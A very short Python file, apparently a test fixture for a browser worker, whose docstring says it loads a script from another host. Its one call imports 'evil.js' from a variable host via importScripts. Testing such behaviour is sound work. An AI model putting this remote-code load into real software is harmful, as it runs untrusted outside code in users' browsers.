"""Loads a script from another host into the worker."""

import js

js.importScripts(SITE + "evil.js")
